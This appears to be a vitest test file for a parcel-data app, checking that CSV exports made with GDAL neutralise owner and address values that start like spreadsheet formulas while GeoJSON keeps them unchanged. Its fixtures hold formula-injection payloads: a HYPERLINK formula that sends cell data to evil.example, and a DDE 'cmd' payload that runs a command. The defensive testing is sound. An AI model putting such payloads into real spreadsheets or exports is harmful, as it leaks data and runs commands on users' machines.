// The export files GDAL writes, for what the spreadsheet guard needs: a csv file's county text that
// starts like a formula is neutralised in the SQL ogr2ogr reads; other formats keep values as they are.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApp } from '../../../app.ts';
import { loadConfig } from '../../../config.ts';
import { createLogger } from '../../../logger.ts';
import { signedInUser } from '../../../testing/accounts.ts';
import { testDb } from '../../../testing/db.ts';
import { testExport, testExportText } from '../../../testing/exports.ts';

const sql = testDb(3);
const dataDir = mkdtempSync(join(tmpdir(), 'make-file-test-'));
const app = createApp({ config: loadConfig({ DATA_DIR: dataDir }), sql, logger: createLogger('silent') });
const cambridge = '/us/ma/middlesex/cambridge';
const owner = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
const address = "-2+3+cmd|' /C calc'!A0";
let parcelnumb = '';
let userId = 0;

beforeAll(async () => {
  const [parcel] = await sql<{ id: number; parcelnumb: string }[]>`
    SELECT id::int AS id, parcelnumb FROM parcels WHERE path LIKE ${`${cambridge}/%`} AND parcelnumb IS NOT NULL ORDER BY id LIMIT 1`;
  parcelnumb = parcel!.parcelnumb;
  // County values as a hostile county file could carry them.
  await sql`UPDATE parcels SET owner = ${owner}, address = ${address}, mailadd = '@SUM(1)' WHERE id = ${parcel!.id}`;
  userId = (await signedInUser(app, sql, 'pro')).userId;
});
afterAll(async () => {
  await sql.end();
  rmSync(dataDir, { recursive: true, force: true });
});

async function exportOf(format: string): Promise<string> {
  const definition = { query: { parcel: true as const, path: cambridge, filters: { parcelnumb: [parcelnumb] } } };
  return testExportText(await testExport(sql, { userId, path: cambridge, format, definition }), dataDir);
}

describe('export files', () => {
  it('L8: a GDAL csv export guards owner and address values that start like a spreadsheet formula', async () => {
    const csv = await exportOf('csv');
    expect(csv).toContain(`"'${owner.replace(/"/g, '""')}"`);
    expect(csv).toContain(`'${address}`);
    expect(csv).toContain("'@SUM(1)");
    // No cell of the row starts like a formula (a WKT polygon and numbers are left alone).
    const row = csv.trim().split(/\r?\n/)[1]!;
    expect(row).not.toMatch(/(^|,)"?[=+@]/);
    expect(row).not.toMatch(/(^|,)"?-[^0-9.]/);
  });

  it('keeps the values as they are in formats that are not spreadsheets', async () => {
    const geojson = JSON.parse(await exportOf('geojson'));
    expect(geojson.features[0].properties).toMatchObject({ owner, address, mailadd: '@SUM(1)' });
  });
});
